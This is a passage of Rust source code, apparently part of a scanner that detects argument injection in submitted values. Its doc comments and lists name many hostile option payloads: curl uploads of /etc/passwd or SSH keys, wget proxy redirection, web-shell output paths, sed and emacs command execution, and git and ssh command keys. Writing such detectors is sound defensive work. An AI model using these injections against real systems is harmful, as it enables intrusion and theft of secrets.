        && !super::last_segment(path).is_empty()
}

/// `-K /tmp/evil.conf`, `-F /tmp/evil_config`, `--rcfile=/dev/shm/x.rc`: an option handed a
/// configuration or script file in a directory anyone can write. The program reads its
/// options or commands from that file (curl's `-K` can set `--output` to a web root, an
/// rc file runs commands); an upload planted it there, and no form field names one.
fn scratch_config_option(v: &[u8], after: usize) -> bool {
    let keep = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-');
    let path = match v.get(after) {
        Some(b'=' | b' ' | b'\t' | b'+') => option_value(v, after, 128, keep),
        // a one-letter option glues its value (`-C/tmp/x.cf`, `-K/tmp/x.curlrc`), as
        // getopt reads it
        // (read from the byte before the `/`, which `option_value` steps over as it does
        // an `=`)
        Some(b'/') if after >= 2 && v[after - 2] == b'-' => option_value(v, after - 1, 128, keep),
        _ => return false,
    };
    if !super::in_scratch_dir(path) {
        return false;
    }
    let file = super::last_segment(path);
    const CONFIG: &[&[u8]] = &[
        b"conf", b"cfg", b"config", b"rc", b"ini", b"cnf", b"curlrc", b"wgetrc", b"lua", b"pl",
        b"py", b"rb", b"sh", b"php", b"js",
    ];
    let ext_or_name = match file.iter().rposition(|&c| c == b'.') {
        Some(d) if d + 1 < file.len() => &file[d + 1..],
        _ => file,
    };
    CONFIG.iter().any(|e| ext_or_name.eq_ignore_ascii_case(e))
        || CONFIG.iter().any(|e| name_ends_with(file, e, true))
}

/// wgetrc commands (lower case) that send wget's requests through the attacker's proxy or
/// choose where it writes or what it uploads.
const WGETRC_COMMANDS: &[&[u8]] = &[
    b"http_proxy",
    b"https_proxy",
    b"ftp_proxy",
    b"output_document",
    b"post_file",
    b"body_file",
    b"dir_prefix",
    b"logfile",
    b"load_cookies",
];

/// `-e http_proxy=evil.example:8080`, `--execute=output_document=/var/www/x.php`: wget's
/// `-e` runs its value as a line of `.wgetrc`, so a `command=value` pair of
/// [`WGETRC_COMMANDS`] at `k` redirects the download (a proxy the attacker reads and
/// answers) or the file it writes. `-e robots=off` and grep's `-e pattern` name none.
fn wgetrc_command(v: &[u8], k: usize) -> bool {
    let rest = &v[k.min(v.len())..];
    let n = rest
        .iter()
        .take(MAX_NAME + 1)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'_')
        .count();
    let key = &rest[..n];
    let value_follows = rest.get(n) == Some(&b'=')
        && rest
            .get(n + 1)
            .is_some_and(|&c| !matches!(c, b' ' | b'\t' | b'+'));
    value_follows && WGETRC_COMMANDS.iter().any(|c| key.eq_ignore_ascii_case(c))
}

/// `-d @/etc/passwd`, `--data-binary @/root/.ssh/id_rsa`: curl reads the data it posts
/// from the file after `@`; a system secret there is sent to whatever URL the request goes
/// to. `-d @body.json` or `-d name=value` is an ordinary post.
fn secret_upload(v: &[u8], after: usize) -> bool {
    if !matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) {
        return false;
    }
    let k = skip_blanks_and_quote(v, after + 1);
    if v.get(k) != Some(&b'@') {
        return false;
    }
    let path = &v[k + 1..];
    let len = path.iter().take(128).take_while(|&&c| path_byte(c)).count();
    let path = &path[..len];
    system_secret(path) || path.starts_with(b"/root/") || path.starts_with(b"~/.")
}

/// `-F 'f=@config.php'`, `--form file=@/etc/passwd`: curl uploads the file after `@` as a
/// form part to the URL the request goes to. A system secret or an application's own
/// secrets file (see [`application_secret`]) there leaves the server; `-F 'photo=@cat.jpg'`
/// uploads a picture.
fn form_file_upload(v: &[u8], after: usize) -> bool {
    if !matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) {
        return false;
    }
    let k = skip_blanks_and_quote(v, after + 1);
    let rest = &v[k.min(v.len())..];
    let n = rest
        .iter()
        .take(MAX_NAME + 1)
        .take_while(|&&c| {
            c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'[' | b']')
        })
        .count();
    if n == 0 || rest.get(n..n + 2) != Some(b"=@") {
        return false;
    }
    let path = &rest[n + 2..];
    let len = path.iter().take(128).take_while(|&&c| path_byte(c)).count();
    let path = &path[..len];
    system_secret(path)
        || path.starts_with(b"/root/")
        || path.starts_with(b"~/.")
        || application_secret(path)
}

/// `config.php`, `wp-config.php`, `.env`, `settings.py`, `id_rsa`, `server.key`: a file in
/// which a web application keeps its database password or keys. An upload option handed
/// one sends those to the attacker; a user's upload is a picture or a document.
pub(super) fn application_secret(path: &[u8]) -> bool {
    let file = super::last_segment(path);
    let lower = |n: &[u8]| file.eq_ignore_ascii_case(n);
    const NAMES: &[&[u8]] = &[
        b"config.php",
        b"wp-config.php",
        b"configuration.php",
        b"settings.php",
        b"local.xml",
        b".env",
        b".htpasswd",
        b".git-credentials",
        b".netrc",
        b".pgpass",
        b".my.cnf",
        b"settings.py",
        b"database.yml",
        b"secrets.yml",
        b"credentials",
        b"id_rsa",
        b"id_ed25519",
        b"web.config",
        b"appsettings.json",
    ];
    NAMES.iter().any(|n| lower(n))
        || [&b".pem"[..], b".key"]
            .iter()
            .any(|e| file.len() > e.len() && file[file.len() - e.len()..].eq_ignore_ascii_case(e))
}

/// gcc's `-Wl,` list from `from`: a linker plugin (`-plugin=`, `--plugin=`, or `-plugin,` with
/// the path as the next item) is a shared object the linker loads and runs at link time.
/// `-Wl,-rpath,/opt/lib` or `-Wl,--as-needed` only steers the link.
fn linker_plugin(v: &[u8], from: usize) -> bool {
    let list = &v[from.min(v.len())..v.len().min(from + 256)];
    let len = list
        .iter()
        .position(|&c| matches!(c, b' ' | b'\t' | b'\'' | b'"'))
        .unwrap_or(list.len());
    list[..len]
        .split(|&c| c == b',')
        .enumerate()
        .any(|(i, item)| {
            let item = item.strip_prefix(b"-").unwrap_or(item);
            let item = item.strip_prefix(b"-").unwrap_or(item);
            (item.len() > 7 && item[..7].eq_ignore_ascii_case(b"plugin="))
                || (item.eq_ignore_ascii_case(b"plugin")
                    && list[..len]
                        .split(|&c| c == b',')
                        .nth(i + 1)
                        .is_some_and(|p| !p.is_empty()))
        })
}

/// `s/.*/id/e`, `-e 's/x/id/e'`, `1e id`, `$e cat /etc/passwd`: a GNU sed script (the value
/// a `sed "$V" file` or `sed -e "$V"` is given) that runs a command: the `e` flag of `s`
/// runs the pattern space after the substitution as a shell command, and the `e` command
/// after an address runs its argument. `s/colour/color/g` edits text; a sentence
/// (`1e is one`) names no command after the `e`.
pub(super) fn sed_execute(v: &[u8]) -> bool {
    let mut t = v.trim_ascii();
    // Every form below opens with `-` (an option), a quote, `s` or an address (a digit, `$`
    // or `,`): a value opening with any other byte (most prose, names and tokens) leaves
    // after one comparison.
    if !t
        .first()
        .is_some_and(|c| matches!(c, b'-' | b'\'' | b'"' | b's' | b'0'..=b'9' | b'$' | b','))
    {
        return false;
    }
    for p in [&b"-e"[..], b"--expression="] {
        if let Some(r) = t.strip_prefix(p) {
            t = r.trim_ascii_start();
        }
    }
    if let Some(r) = t.strip_prefix(b"'").or_else(|| t.strip_prefix(b"\"")) {
        t = r;
    }
    let t = &t[..t.len().min(512)];
    if let [b's', d, rest @ ..] = t {
        let d = *d;
        if d.is_ascii_alphanumeric() || matches!(d, b' ' | b'\t' | b'\n' | b'\\') {
            return false;
        }
        // The pattern and the replacement, each ended by an unescaped delimiter.
        let mut k = 0;
        for _ in 0..2 {
            let mut escaped = false;
            let Some(p) = rest[k..].iter().position(|&c| {
                let end = c == d && !escaped;
                escaped = c == b'\\' && !escaped;
                end
            }) else {
                return false;
            };
            k += p + 1;
        }
        let flags = &rest[k..];
        let n = flags
            .iter()
            .take_while(|c| {
                matches!(
                    c,
                    b'g' | b'p' | b'i' | b'I' | b'm' | b'M' | b'e' | b'0'..=b'9'
                )
            })
            .count();
        return flags[..n].contains(&b'e')
            && flags
                .get(n)
                .is_none_or(|&c| matches!(c, b'\'' | b'"' | b';' | b' ' | b'\t' | b'\n' | b'}'));
    }
    // An address (a line number or `$`), then the `e` command and its command line.
    let addr = t
        .iter()
        .take(12)
        .take_while(|c| c.is_ascii_digit() || matches!(c, b'$' | b','))
        .count();
    if addr == 0 || t.get(addr) != Some(&b'e') || !matches!(t.get(addr + 1), Some(b' ' | b'\t')) {
        return false;
    }
    let rest = t[addr + 1..].trim_ascii_start();
    let n = rest
        .iter()
        .take(64)
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-'))
        .count();
    n > 0 && super::known_command(&rest[..n])
}

/// A byte of a file path as an option's value spells it.
fn path_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-' | b'~')
}

/// A system secret an upload option can send: a file under `/etc` or `/proc`, or a user's
/// SSH or cloud credentials.
pub(super) fn system_secret(path: &[u8]) -> bool {
    path.starts_with(b"/etc/")
        || path.starts_with(b"/proc/")
        || memchr::memmem::find(path, b"/.ssh/").is_some()
        || memchr::memmem::find(path, b"/.aws/").is_some()
}

/// The option's value after the `=` or blank at `after` (blanks and one opening quote
/// skipped): at most `max` bytes that `keep` accepts.
fn option_value(v: &[u8], after: usize, max: usize, keep: impl Fn(u8) -> bool) -> &[u8] {
    let k = skip_blanks_and_quote(v, after + 1);
    let rest = &v[k..];
    let len = rest.iter().take(max).take_while(|&&c| keep(c)).count();
    &rest[..len]
}

/// Server-side script extensions: a file written under one of them in a web root is a web
/// shell the next request runs.
const SCRIPT_EXTENSIONS: &[&[u8]] = &[
    b"php", b"php3", b"php4", b"php5", b"php7", b"phtml", b"phar", b"jsp", b"jspx", b"asp",
    b"aspx", b"ashx", b"asmx", b"cer", b"cgi", b"shtml",
];

/// `-o /var/www/html/s.php`, `--output-document=../uploads/x.jsp`: an output option of
/// curl or wget given a path (a directory in it) to a server-side script. A download tool
/// told to write a script into a directory is planting a web shell; `-o out.txt` is not.
fn script_output_option(name: &[u8], v: &[u8], after: usize) -> bool {
    // curl's `-D`/`--dump-header` and `--trace` write the response headers or a trace (which
    // the attacker's server fills) to the file named.
    let output = matches!(name, b"o" | b"O" | b"D")
        || name.eq_ignore_ascii_case(b"dump-header")
        || name.eq_ignore_ascii_case(b"trace")
        || name.eq_ignore_ascii_case(b"trace-ascii")
        || name.eq_ignore_ascii_case(b"output")
        || name.eq_ignore_ascii_case(b"output-document")
        || name.eq_ignore_ascii_case(b"output-file");
    // ImageMagick's `-write FILE` saves a copy of the image wherever the value says (an
    // application's `convert "UPLOAD" out.png` whose file argument the value closes with a
    // quote); its `msl:` coder runs the Magick Scripting Language file instead of writing.
    let write = name.eq_ignore_ascii_case(b"write");
    // (a short option takes its value glued on too: `-o/tmp/x.php`)
    let glued = name.len() == 1 && matches!(v.get(after), Some(b'/' | b'.' | b'~'));
    if !(output || write) || !(glued || matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+'))) {
        return false;
    }
    let path = option_value(v, after - usize::from(glued), 256, |c| {
        !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"' | b';' | b'|' | b'&')
    });
    // (also a server-side template the application renders, `-o /app/views/layout.ejs`,
    // and a page fetched from a remote server into a web root, `-o /app/static/x.js
    // http://…`: run or served at the next request; a generator writing its own output
    // there, `--output=/var/www/html/index.html`, names no remote source)
    system_write_target(path)
        || script_in_directory(path)
        || template_in_directory(path)
        || (in_web_root(path) && names_remote_url(v))
        || (write && path.len() > 4 && path[..4].eq_ignore_ascii_case(b"msl:"))
}

/// Lisp functions that start a program: emacs's `--eval` runs the form it is given, so a
/// form calling one of these runs a command (`--eval='(shell-command "id")'`); a form that
/// exports or formats a document does not.
const LISP_PROCESS_CALLS: &[&[u8]] = &[
    b"shell-command",
    b"shell-command-to-string",
    b"call-process",
    b"call-process-shell-command",
    b"start-process",
    b"start-process-shell-command",
    b"make-process",
    b"process-lines",
];

/// `--eval='(shell-command "id")'`, `--eval "(call-process \"sh\" …)"`: the option's value
/// is a Lisp form whose head starts a program, see [`LISP_PROCESS_CALLS`].
fn lisp_eval_runs(v: &[u8], after: usize) -> bool {
    if !matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) {
        return false;
    }
    let k = skip_blanks_and_quote(v, after + 1);
    if v.get(k) != Some(&b'(') {
        return false;
    }
    let n = v[k + 1..]
        .iter()
        .take(40)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'-')
        .count();
    let head = &v[k + 1..k + 1 + n];
    LISP_PROCESS_CALLS
        .iter()
        .any(|f| head.eq_ignore_ascii_case(f))
}

/// `-config evil.pl`: exiftool's `-config` file is Perl the tool runs at start; a value
/// naming a Perl file hands it code (a YAML or INI configuration is data).
fn perl_config(name: &[u8], v: &[u8], after: usize) -> bool {
    if !name.eq_ignore_ascii_case(b"config") || !matches!(v.get(after), Some(b' ' | b'\t' | b'+')) {
        return false;
    }
    let path = option_value(v, after, 256, |c| {
        !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"' | b';' | b'|' | b'&')
    });
    path.len() > 3
        && [&b".pl"[..], b".pm"]
            .iter()
            .any(|e| path[path.len() - 3..].eq_ignore_ascii_case(e))
}

/// A path with a directory in it to a file with a server-side script extension
/// (`/var/www/html/s.php`, `../uploads/x.jsp`): written there, a web shell.
pub(super) fn script_in_directory(path: &[u8]) -> bool {
    file_in_directory_with(path, SCRIPT_EXTENSIONS)
}

/// Whether `path` has a directory and its file name one of `extensions` (any case).
fn file_in_directory_with(path: &[u8], extensions: &[&[u8]]) -> bool {
    let Some(slash) = path.iter().rposition(|&c| c == b'/' || c == b'\\') else {
        return false;
    };
    let file = &path[slash + 1..];
    file.iter().rposition(|&c| c == b'.').is_some_and(|d| {
        d > 0
            && extensions
                .iter()
                .any(|e| file[d + 1..].eq_ignore_ascii_case(e))
    })
}

/// Whether the value holds a URL of a remote server (`http://`, `https://`, `ftp://`).
fn names_remote_url(v: &[u8]) -> bool {
    memchr::memmem::find_iter(v, b"://").any(|i| {
        let scheme = &v[..i];
        [&b"http"[..], b"https", b"ftp"].iter().any(|s| {
            scheme.len() >= s.len() && scheme[scheme.len() - s.len()..].eq_ignore_ascii_case(s)
        })
    })
}

/// Server-side templates by extension (EJS, ERB, Pug/Jade, Twig, Jinja, Nunjucks,
/// FreeMarker, Velocity, Smarty, Handlebars, Razor, GSP): the application renders them,
/// and most run the code they hold.
const TEMPLATE_EXTENSIONS: &[&[u8]] = &[
    b"ejs", b"erb", b"pug", b"jade", b"twig", b"j2", b"jinja", b"jinja2", b"njk", b"ftl", b"ftlh",
    b"vm", b"tpl", b"hbs", b"cshtml", b"gsp",
];

/// `views/layout.ejs`, `/app/templates/base.j2`: a path with a directory to a server-side
/// template ([`TEMPLATE_EXTENSIONS`]). A file written there is rendered, code and all, at
/// the next request.
fn template_in_directory(path: &[u8]) -> bool {
    file_in_directory_with(path, TEMPLATE_EXTENSIONS)
}

/// A file whose contents the system runs or trusts: cron's tables, anything under `/etc`
/// (profile scripts, sudoers, passwd), root's home, an `authorized_keys`, a shell's rc file.
/// Writing a download or a redirection there is code execution at the next login or minute.
pub(super) fn system_write_target(path: &[u8]) -> bool {
    const DIRS: &[&[u8]] = &[
        b"/etc/",
        b"/var/spool/cron/",
        b"/root/",
        b"/usr/bin/",
        b"/bin/",
    ];
    const FILES: &[&[u8]] = &[
        b"authorized_keys",
        b".bashrc",
        b".profile",
        b".bash_profile",
        b".zshrc",
    ];
    let file = super::last_segment(path);
    (DIRS.iter().any(|d| path.starts_with(d)) && file.len() < path.len() && !file.is_empty())
        || (path.contains(&b'/') && FILES.contains(&file))
}

fn dangerous_option(v: &[u8], at: usize) -> bool {
    let double = v.get(at + 1) == Some(&b'-');
    let from = at + 1 + usize::from(double);
    let name_len = v[from..]
        .iter()
        .take(MAX_NAME + 1)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_' || c == b'.')
        .count();
    if name_len == 0 || name_len > MAX_NAME {
        return false;
    }
    let name = &v[from..from + name_len];
    let after = from + name_len;
    if double {
        // git's `--config=core.pager=id`, or curl's `--config=/tmp/x.curlrc`: curl reads its
        // options (`--output` into a web root, `--upload-file`) from the file an upload
        // planted, see [`scratch_config_option`].
        if name.eq_ignore_ascii_case(b"config") && v.get(after) == Some(&b'=') {
            return git_key(v, after + 1) || scratch_config_option(v, after);
        }
        // curl's `--form 'f=@config.php'`: see [`form_file_upload`].
        if name.eq_ignore_ascii_case(b"form") && form_file_upload(v, after) {
            return true;
        }
        // `--checkpoint-action=exec=sh x.sh`: only the `exec` action runs anything.
        if name.eq_ignore_ascii_case(b"checkpoint-action") {
            return v.get(after) == Some(&b'=')
                && v[after + 1..]
                    .get(..5)
                    .is_some_and(|a| a.eq_ignore_ascii_case(b"exec="))
                && has_operand(v, after + 6);
        }
        // `--exec` names a command in too many tools' documentation (`--exec "CMD"`); git's
        // `--exec=<path>` is glued.
        if name.eq_ignore_ascii_case(b"exec") {
            return glued_value(v, after);
        }
        // git's `--exec-path=/tmp`: the directory git runs its `git-*` helper programs
        // from; one anyone can write holds an uploaded program instead.
        if name_ends_with(name, b"exec-path", false) && v.get(after) == Some(&b'=') {
            let dir = option_value(v, after, 128, |c| {
                c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-')
            });
            return super::in_scratch_dir(dir) || super::in_scratch_dir(&[dir, b"/"].concat());
        }
        // wget's `--execute=http_proxy=evil:8080`: a wgetrc command, see [`wgetrc_command`].
        if name.eq_ignore_ascii_case(b"execute")
            && matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+'))
        {
            return wgetrc_command(v, skip_blanks_and_quote(v, after + 1));
        }
        if name.len() >= 4 && name[..4].eq_ignore_ascii_case(b"data") && secret_upload(v, after) {
            return true;
        }
        if name.eq_ignore_ascii_case(b"eval") && lisp_eval_runs(v, after) {
            return true;
        }
        return (command_option(name) && with_value(v, after))
            || program_named_option(name, v, after)
            || file_upload_option(name, v, after)
            || script_output_option(name, v, after)
            || scratch_config_option(v, after);
    }
    if script_output_option(name, v, after)
        || scratch_config_option(v, after)
        || perl_config(name, v, after)
        || find_write_action(name, v, after)
    {
        return true;
    }
    match name {
        // ssh: `-oProxyCommand=…`, `-o ProxyCommand=…`, `-o "ProxyCommand …"`.
        [b'o', key @ ..] if !key.is_empty() && !matches!(name, b"ok" | b"okdir") => {
            ssh_key(key, v, after)
        }
        b"o" => {
            let k = skip_blanks_and_quote(v, after);
            let n = v[k..]
                .iter()
                .take(MAX_NAME + 1)
                .take_while(|c| c.is_ascii_alphanumeric())
                .count();
            n <= MAX_NAME && ssh_key(&v[k..k + n], v, k + n)
        }
        // git: `-c core.sshCommand=…`; a shell's or expect's `-c "id"`: a quoted command
        // line the program runs.
        b"c" => {
            matches!(v.get(after), Some(b' ' | b'\t' | b'+')) && {
                let k = skip_blanks_and_quote(v, after);
                git_key(v, k) || quoted_command_line(v, after)
            }
        }
        // curl's `-d @/etc/passwd`: post a local file's contents, see [`secret_upload`].
        b"d" => secret_upload(v, after),
        // curl's `-F 'f=@config.php'`: upload a local file as a form part.
        b"F" => form_file_upload(v, after),
        // curl's `-T /etc/passwd` (`--upload-file`): send a system secret to the URL.
        b"T" => file_upload_option(b"upload-file", v, after),
        // gcc's `-Wl,-plugin=/tmp/p.so` (the linker loads the shared object and runs its
        // code) and `-fplugin=/tmp/p.so` (the compiler does).
        [b'W', b'l'] if v.get(after) == Some(&b',') => linker_plugin(v, after + 1),
        b"fplugin" => glued_value(v, after),
        // rsync's, xterm's and netcat's `-e sh`: the remote-shell or execute option handed
        // a shell by name; grep's `-e pattern` and mail's `-e` are given words, not shells.
        // wget's `-e http_proxy=…` runs a wgetrc command (see [`wgetrc_command`]).
        b"e" => {
            (matches!(v.get(after), Some(b' ' | b'\t' | b'+' | b'='))
                && wgetrc_command(v, skip_blanks_and_quote(v, after + 1)))
                || matches!(v.get(after), Some(b' ' | b'\t' | b'+')) && {
                    let word = option_value(v, after, 16, |c| {
                        c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.')
                    });
                    let end = skip_blanks_and_quote(v, after) + word.len();
                    let base = super::last_segment(word);
                    matches!(base, b"sh" | b"bash" | b"zsh" | b"ksh" | b"dash" | b"ash")
                        && v.get(end)
                            .is_none_or(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
                }
        }
        // Any other one-letter option given a configuration key that names a program
        // (`-u core.pager=id`): the application passes such pairs on to git's `-c`.
        [c] if c.is_ascii_alphabetic()
            && matches!(v.get(after), Some(b' ' | b'\t' | b'+'))
            && git_key(v, skip_blanks_and_quote(v, after)) =>
        {
            true
        }
        // find: `-exec cmd {} ;`, `-execdir`, `-ok`, `-okdir`: a command and its end.
        // A value that names `find` itself is a whole command line (documentation, or a
        // shell injection the command-start scan judges), not an injected argument.
        b"exec" | b"execdir" | b"ok" | b"okdir" => {
            memchr::memmem::find(&v[..at], b"find ").is_none() && find_action(v, after)
        }
        // zip: `-TT cmd` (zip's own test command; upper case only).
        b"TT" => with_value(v, after),
        // sendmail: `-X/var/www/x.php` logs all traffic, the attacker's body included, to a
        // file of the attacker's choice; `-OQueueDirectory=/tmp` goes with it.
        b"X" => {
            let k = skip_blanks_and_quote(v, after);
            v.get(k) == Some(&b'/') && v.get(k + 1).is_some_and(|&c| c != b' ')
        }
        // Java: `-XX:OnOutOfMemoryError=cmd`, `-XX:OnError=cmd` run a command line.
        b"XX" => {
            v.get(after) == Some(&b':') && {
                let key = &v[after + 1..v.len().min(after + 1 + 20)];
                [&b"OnOutOfMemoryError="[..], b"OnError="]
                    .iter()
                    .any(|k| key.len() >= k.len() && key[..k.len()].eq_ignore_ascii_case(k))
            }
        }
        // Go's single-dash long options (`-toolexec=id`).
        _ => command_option(name) && glued_value(v, after),
    }
}

/// The option at `at` (a dash opening a word) has a value that runs a program, see
/// [`runs_program`].
fn option_runs_program(v: &[u8], at: usize) -> bool {
    let from = at + 1 + usize::from(v.get(at + 1) == Some(&b'-'));
    let name_len = v[from..]
        .iter()
        .take(MAX_NAME + 1)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_' || c == b'.')
        .count();
    (1..=MAX_NAME).contains(&name_len) && runs_program(v, from + name_len)
}

/// Any option whose value starts a shell (`-e 'sh -c id'`, `--rsh=bash -c …`) or names a
/// program in a scratch directory (`-I /tmp/x`, `--pre=/tmp/x`, `-z /dev/shm/k`): whatever
/// the option, the program it belongs to runs that value, since no option that takes a
/// data file is ever handed a shell or a binary dropped in `/tmp`.
fn runs_program(v: &[u8], after: usize) -> bool {
    if !matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) {
        return false;
    }
    let k = skip_blanks_and_quote(v, after + 1);
    let rest = &v[k..v.len().min(k + 24)];
    let starts = |w: &[u8]| {
        rest.len() >= w.len()
            && rest[..w.len()].eq_ignore_ascii_case(w)
            && rest
                .get(w.len())
                .is_none_or(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
    };
    const SHELLS: [&[u8]; 6] = [
        b"sh -c",
        b"bash -c",
        b"/bin/sh",
        b"/bin/bash",
        b"cmd /c",
        b"cmd.exe",
    ];
    if SHELLS.iter().any(|w| starts(w)) {
        return true;
    }
    let word = &v[k..];
    let len = word
        .iter()
        .take(256)
        .take_while(|&&c| !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"' | b';' | b'|' | b'&'))
        .count();
    let word = &word[..len];
    [&b"/tmp/"[..], b"/dev/shm/", b"/var/tmp/"]
        .iter()
        .any(|d| word.starts_with(d))
        && super::path_to_run(word)
        && super::program_file_name(word)
}

/// Parts of option names (lower case) that name a *kind* of thing, not a program to run:
/// `--shell=zsh` (a completion script's target shell), `--lang=sh`, `--syntax=bash`,
/// `--type=sh` (ripgrep's file-type filter), `--python=python3` (virtualenv's interpreter
/// choice for the environment it builds).
const KIND_OPTION_PARTS: &[&[u8]] = &[
    b"shell",
    b"lang",
    b"syntax",
    b"type",
    b"format",
    b"mode",
    b"highlight",
    b"complet",
    b"dialect",
    b"style",
    b"kernel",
    b"profile",
    b"target",
    b"flavo",
    b"python",
    b"perl",
    b"ruby",
    b"node",
    b"php",
    b"lua",
    b"version",
    b"ext",
    b"filetype",
];

/// `--pre=sh`, `--foo=bash`, `--hook '/usr/bin/zsh'`, `--run=python3`: a double-dash option,
/// whatever its name, whose value (glued with `=`, or the next word) is a shell or script
/// interpreter by name or by path and nothing more. The program the option belongs to runs
/// that interpreter (ripgrep's `--pre` runs it on every file searched, with the file, which
/// an upload controls, as its script); no data option is given a bare shell. Options named
/// for a kind of thing (`--shell=zsh`, `--lang=sh`, `--type=sh`) take a word, not a program.
fn option_given_shell(v: &[u8], at: usize) -> bool {
    if v.get(at + 1) != Some(&b'-') {
        return false;
    }
    let from = at + 2;
    let n = v[from..]
        .iter()
        .take(MAX_NAME + 1)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_')
        .count();
    if n == 0 || n > MAX_NAME || !v[from].is_ascii_alphabetic() {
        return false;
    }
    let name = v[from..from + n].to_ascii_lowercase();
    if KIND_OPTION_PARTS
        .iter()
        .any(|p| name.windows(p.len()).any(|w| w == *p))
    {
        return false;
    }
    let after = from + n;
    if !matches!(v.get(after), Some(b'=' | b' ' | b'\t')) {
        return false;
    }
    let mut k = after + 1;
    let quote = match v.get(k) {
        Some(&q @ (b'\'' | b'"')) => {
            k += 1;
            Some(q)
        }
        _ => None,
    };
    let len = v[k..]
        .iter()
        .take(64)
        .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-'))
        .count();
    let word = &v[k..k + len];
    // The value ends there: the value's end, a blank, or its closing quote.
    let end_ok = match (quote, v.get(k + len)) {
        (_, None) => true,
        (Some(q), Some(&c)) => c == q,
        (None, Some(&c)) => matches!(c, b' ' | b'\t' | b'+'),
    };
    if word.is_empty() || !end_ok {
        return false;
    }
    let base = super::last_segment(word);
    // A path must be a path to a program (`/bin/sh`, `/usr/bin/env`); `sh/` is a folder.
    if base.is_empty() || (word.contains(&b'/') && word[0] != b'/') {
        return false;
    }
    let shell = matches!(
        base,
        b"sh"
            | b"bash"
            | b"zsh"
            | b"ksh"
            | b"dash"
            | b"ash"
            | b"csh"
            | b"tcsh"
            | b"fish"
            | b"pwsh"
            | b"powershell"
            | b"powershell.exe"
            | b"cmd.exe"
    );
    // A blank before the value reads the next word, which may be a sentence's (`--verbose
    // bash users`): only a shell that ends the value counts there.
    if v[after] != b'=' && quote.is_none() {
        return shell && k + len == v.len();
    }
    shell || super::interpreter_name(base)
}

/// After blanks, a quoted string whose text is a command line in command position as
/// tightly as after `;` (`-c "id"`, `-c 'spawn id'` is not, `-c "ls -la"`).
fn quoted_command_line(v: &[u8], after: usize) -> bool {
    let mut k = after;
    while matches!(v.get(k), Some(b' ' | b'\t' | b'+')) {
        k += 1;
    }
    let Some(&q @ (b'\'' | b'"')) = v.get(k) else {
        return false;
    };
    let body = &v[k + 1..v.len().min(k + 1 + 256)];
    body.iter()
        .position(|&b| b == q)
        .is_some_and(|close| close > 0 && super::string_runs_command(&body[..close]))
}

/// Whether `name` is one of [`COMMAND_OPTIONS`] (any case).
fn command_option(name: &[u8]) -> bool {
    COMMAND_OPTIONS.iter().any(|o| name.eq_ignore_ascii_case(o))
}

/// The option ending at `after` takes a value: `=` or a blank, then something.
fn with_value(v: &[u8], after: usize) -> bool {
    matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) && has_operand(v, after + 1)
}

/// The option ending at `after` takes a value glued on with `=` (`--exec=id`).
fn glued_value(v: &[u8], after: usize) -> bool {
    v.get(after) == Some(&b'=') && has_operand(v, after + 1)
}

fn ssh_key(key: &[u8], v: &[u8], after: usize) -> bool {
    SSH_COMMAND_KEYS.iter().any(|k| key.eq_ignore_ascii_case(k)) && with_value(v, after)
}

/// A git configuration key that runs a command, `=`, and a value (`core.sshCommand=id`).
fn git_key(v: &[u8], k: usize) -> bool {
    let n = v[k.min(v.len())..]
        .iter()
        .take(MAX_NAME + 1)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'.')
        .count();
    let key = &v[k.min(v.len())..(k + n).min(v.len())];
    // `sequence.editor`, `gpg.program`, `core.pager`: a dotted key whose last part names a
    // program is one git starts, whatever section it sits in.
    let last = key.rsplit(|&c| c == b'.').next().unwrap_or_default();
    let program_key = key.contains(&b'.')
        && [&b"pager"[..], b"editor", b"program", b"command", b"cmd"]
            .iter()
            .any(|e| last.len() >= e.len() && last[last.len() - e.len()..].eq_ignore_ascii_case(e));
    (program_key || GIT_COMMAND_KEYS.iter().any(|g| key.eq_ignore_ascii_case(g)))
        && v.get(k + n) == Some(&b'=')
        && has_operand(v, k + n + 1)
}

/// find's action: a word, then `{}`, `;` or `+` ending the command it runs.
fn find_action(v: &[u8], after: usize) -> bool {
    if !matches!(v.get(after), Some(b' ' | b'\t' | b'+')) {
        return false;
    }
    let k = skip_blanks_and_quote(v, after);
    let word = v[k..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-'))
        .count();
    if word == 0 {
        return false;
    }
    let rest = &v[k + word..v.len().min(k + word + 256)];
    let trimmed = rest.trim_ascii_end();
    memchr::memmem::find(rest, b"{}").is_some()
        || trimmed.ends_with(b"\\;")
        || trimmed.ends_with(b" ;")
        || trimmed.ends_with(b" +")
}

fn skip_blanks_and_quote(v: &[u8], mut k: usize) -> usize {
    while v
        .get(k)
        .is_some_and(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
    {
        k += 1;
    }
    k
}

/// Something other than blanks and quotes at `k`: the option has a value.
fn has_operand(v: &[u8], k: usize) -> bool {
    v.get(skip_blanks_and_quote(v, k)).is_some()
}

#[cfg(test)]
mod tests {
